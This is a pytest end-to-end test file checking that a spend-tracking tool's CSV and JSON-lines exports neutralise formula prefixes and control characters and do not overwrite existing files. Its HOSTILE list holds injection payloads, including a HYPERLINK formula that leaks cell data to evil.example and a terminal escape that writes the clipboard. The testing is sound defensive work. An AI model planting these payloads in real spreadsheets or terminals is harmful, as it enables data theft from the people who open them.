"""Exports of what strangers sent: no spreadsheet runs a cell, no terminal obeys one, and every text is found again."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from spendtop.domain.spreadsheet import restored
from tests.e2e.processes import CollectorProcess, spendtop
from tests.e2e.pushing import ADMIN, ITEM, KEYED, receiving

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"paid")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＠SUM(A1)",
    'a"b,c;d',
    "two\nlines",
    "'=quoted already",
    "-1",
    "\x1b[2J\x1b]52;c;ZXZpbA==\x07",
    "\u202eright to left",
    "null \0 character",
)
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
STEERS = frozenset(map(chr, (*range(9), *range(11, 13), *range(14, 32), *range(127, 160), 0x202E)))


@pytest.fixture(scope="module")
def collector(tmp_path_factory: pytest.TempPathFactory) -> Iterator[CollectorProcess]:
    """A collector to which each of them was pushed, as a user with a correction downwards."""
    with receiving(tmp_path_factory.mktemp("cells")) as found:
        items = [{**ITEM, "user_id": text, "properties": {"team": text}, "cost_usd": 0.5} for text in HOSTILE]
        assert found.client.post("/ingest", json=items, headers=KEYED).status_code == 200
        yield found


def exported(collector: CollectorProcess, kind: str) -> dict[str, str]:
    """The same export over HTTP, by the command to stdout, and into a file."""
    configuration = ("--config", collector.folder / "spendtop.toml")
    file = collector.folder / f"out.{kind}"
    answer = collector.client.get(f"/export.{kind}", headers=ADMIN)
    assert answer.status_code == 200
    printed = spendtop(collector.folder, "export", f"--{kind}", *configuration)
    written = spendtop(collector.folder, "export", "--output", file, *configuration)
    assert (printed.code, written.code, written.out) == (0, 0, ""), printed.err + written.err
    return {"http": answer.text, "stdout": printed.out, "file": file.read_bytes().decode()}


def test_csv_is_harmless_everywhere_and_reads_back_exactly(collector: CollectorProcess) -> None:
    known = [row["user_id"] for row in collector.client.get("/requests", headers=ADMIN).json()["data"]]
    for text in exported(collector, "csv").values():
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert [restored(row["user_id"]) for row in rows] == known
        assert [row["cost_nanousd"] for row in rows] == ["500000000"] * len(HOSTILE)
        assert not [cell for row in rows for cell in row.values() if cell.lstrip(" ").startswith(RUNS)]
        assert STEERS.isdisjoint(text)


def test_json_lines_are_exact_and_harmless_everywhere(collector: CollectorProcess) -> None:
    known = [row["user_id"] for row in collector.client.get("/requests", headers=ADMIN).json()["data"]]
    for text in exported(collector, "jsonl").values():
        assert [json.loads(line)["user_id"] for line in text.splitlines()] == known
        assert text.isascii()
        assert STEERS.isdisjoint(text)


def test_an_export_replaces_nothing_by_itself(collector: CollectorProcess, tmp_path: Path) -> None:
    configuration = ("--config", collector.folder / "spendtop.toml")
    taken, link = tmp_path / "taken.csv", tmp_path / "link.csv"
    taken.write_text("mine")
    link.symlink_to(taken)
    for path in (taken, link):
        ended = spendtop(collector.folder, "export", "--output", path, *configuration)
        assert (ended.code, ended.out) == (73, ""), ended.err
        assert "Traceback" not in ended.err
    assert taken.read_text() == "mine"
    assert sorted(path.name for path in tmp_path.iterdir() if path.is_file()) == ["link.csv", "taken.csv"]
